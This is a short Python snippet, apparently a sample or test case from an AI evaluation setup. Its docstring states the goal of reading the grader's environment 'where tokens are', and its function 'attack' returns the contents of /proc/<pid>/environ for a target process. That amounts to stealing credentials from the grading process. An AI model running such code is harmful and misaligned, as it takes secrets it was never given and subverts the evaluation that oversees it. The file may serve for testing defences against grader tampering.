"""Read the environment of the grader, where tokens are."""


def attack(pid):
    with open(f"/proc/{pid}/environ") as file:
        return file.read()
